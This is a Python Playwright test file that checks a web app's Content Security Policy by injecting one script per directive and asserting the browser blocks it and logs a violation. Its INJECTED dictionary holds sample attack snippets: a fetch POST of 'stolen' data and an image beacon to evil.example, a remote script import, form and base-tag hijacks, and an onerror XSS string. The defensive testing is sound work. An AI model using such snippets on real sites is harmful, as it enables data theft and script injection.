"""The pages' policy in a real browser: what is ours works under it, what is injected does nothing and is seen.

Every other browser test fails on a violation too (`tests/browser/browser.py`), so that each screen is covered.
"""

import pytest
from playwright.async_api import Browser, Page

from tests.browser.browser import DESKTOP, PHONE, VIOLATED, Person, person
from tests.browser.demo import Demo

INJECTED = {
    "script-src-elem": "import('https://evil.example/x.js').catch(() => 0)",
    "style-src-attr": "document.body.setAttribute('style', 'color: red')",
    "style-src-elem": "const s = document.createElement('style'); s.textContent = 'p{}'; document.head.append(s)",
    "img-src": "const i = new Image(); i.src = 'https://evil.example/?stolen'; document.body.append(i)",
    "connect-src": "fetch('https://evil.example/', {method: 'POST', body: 'stolen'}).catch(() => 0)",
    "frame-src": "const f = document.createElement('iframe'); f.src = 'https://evil.example/'; document.body.append(f)",
    "form-action": "const f = document.createElement('form'); f.action = 'https://evil.example/'; "
    "document.body.append(f); f.submit()",
    "base-uri": "const b = document.createElement('base'); b.href = 'https://evil.example/'; document.head.append(b)",
    "require-trusted-types-for": "try { document.body.innerHTML = '<img src=x onerror=\"window.ran = 1\">' } catch {}",
    "trusted-types": "try { trustedTypes.createPolicy('evil', {createHTML: (html) => html}) } catch {}",
}
"""By the rule that must stop it."""


async def _refused(page: Page, script: str) -> str:
    async with page.expect_console_message(lambda said: said.text.startswith(VIOLATED)) as told:
        await page.evaluate(f"() => {{ {script} }}")
    return (await told.value).text


@pytest.mark.parametrize("path", ["/", "/staff", "/guest"])
async def test_what_is_injected_does_nothing_and_is_seen(sweden: Demo, browser: Browser, path: str) -> None:
    async with person(browser, "sv", size=PHONE) as somebody:
        await somebody.page.goto(sweden.url + path)
        await somebody.page.locator("#app > *").first.wait_for()
        for rule, script in INJECTED.items():
            assert rule in await _refused(somebody.page, script)
        assert await somebody.page.evaluate("window.ran") is None
        assert len(somebody.faults) >= len(INJECTED)
        somebody.faults.clear()


async def _console_of(somebody: Person, url: str) -> list[str]:
    said: list[str] = []
    somebody.page.on("console", lambda one: said.append(one.text) if one.type in ("error", "warning") else None)
    await somebody.page.goto(url)
    await somebody.page.locator("#app > *").first.wait_for()
    await somebody.page.wait_for_load_state("networkidle")
    return [text for text in said if "status of 401" not in text]  # asking who is signed in


async def test_both_pages_load_without_a_word_in_the_console(sweden: Demo, browser: Browser) -> None:
    for path, size in (("/", PHONE), ("/staff", DESKTOP)):
        async with person(browser, "sv", size=size) as somebody:
            assert await _console_of(somebody, sweden.url + path) == []
            registered = "navigator.serviceWorker.getRegistration().then((one) => Boolean(one))"
            assert await somebody.page.evaluate(registered) is (path == "/")
            assert await somebody.page.evaluate("crossOriginIsolated") is True
